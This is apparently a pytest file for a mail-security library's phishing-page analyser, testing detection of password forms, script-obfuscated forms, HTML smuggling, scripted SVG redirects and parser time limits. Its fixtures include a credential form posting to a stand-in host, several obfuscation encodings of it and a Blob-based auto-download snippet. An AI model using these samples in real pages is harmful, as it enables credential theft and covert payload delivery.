"""Pages in mail are looked at without being run: what they ask for, and what script would put together."""

import base64
import time

import pytest

from mailward.message import parse
from mailward.phishing.pages import MAX_PAGE, Pages, look_at_pages

FORM = b'<form action="https://collect.example/in"><input type=email><input type="password" name=p></form>'


def page(content: bytes, name: str = "invoice.html", kind: str = "text/html") -> Pages:
    raw = (
        b"From: a@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nSee it.\n"
        b"--b\nContent-Type: " + kind.encode() + b"\nContent-Transfer-Encoding: base64\n"
        b'Content-Disposition: attachment; filename="' + name.encode() + b'"\n\n' + base64.encodebytes(content) + b"\n--b--\n"
    )
    return look_at_pages(parse(raw))


def test_a_form_for_a_password_is_seen():
    found = page(FORM)
    assert (found.attached, found.password, found.form, found.smuggles) == (1, True, True, False)


@pytest.mark.parametrize(
    "hidden",
    [
        b"<script>document.write(atob('" + base64.b64encode(FORM * 2) + b"'))</script>",
        b"<script>document.write(unescape('" + b"".join(b"%%%02x" % code for code in FORM) + b"'))</script>",
        b"<script>x('" + b"".join(b"\\x%02x" % code for code in FORM) + b"')</script>",
        b"<script>document.write(String.fromCharCode(" + b",".join(b"%d" % code for code in FORM) + b"))</script>",
        b"<script>eval(atob('"
        + base64.b64encode(b"<script>document.write(atob('" + base64.b64encode(FORM * 2) + b"'))</script>")
        + b"'))</script>",
    ],
    ids=["base64", "percent", "hex", "codes", "twice"],
)
def test_strings_that_script_decodes_are_decoded(hidden):
    """The form is found in every disguise, two levels deep."""
    assert page(hidden).password


def test_a_file_put_together_by_script_is_smuggling():
    payload = base64.b64encode(b"PK\x03\x04" + bytes(300))
    found = page(b"<script>var b=new Blob([atob('" + payload + b"')]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>")
    assert found.smuggles


def test_a_plain_page_smuggles_nothing():
    """A saved article with a picture inside is a page, and no more."""
    picture = b'<html><body><p>Hello</p><img src="data:image/png;base64,' + base64.b64encode(bytes(500)) + b'"></body></html>'
    assert page(picture) == Pages(attached=1, name="invoice.html")


def test_a_drawing_with_script_is_seen():
    found = page(
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>location.href="https://x.example"</script></svg>', "scan.svg", "image/svg+xml"
    )
    assert (found.drawings, found.script, found.redirect) == (1, True, True)


@pytest.mark.parametrize(
    "content",
    [
        b"A" * MAX_PAGE * 2,
        b"%41" * MAX_PAGE,
        b"1," * MAX_PAGE,
        b"<script>" + b"\\x4" * MAX_PAGE,
        b"<form action=" * 40_000,
        b"<form " * 90_000,
    ],
    ids=["base64", "percent", "codes", "hex", "forms", "open forms"],
)
def test_hostile_pages_take_bounded_time(content):
    """No page costs more than two seconds."""
    started = time.process_time()
    page(content)
    assert time.process_time() - started < 2.0
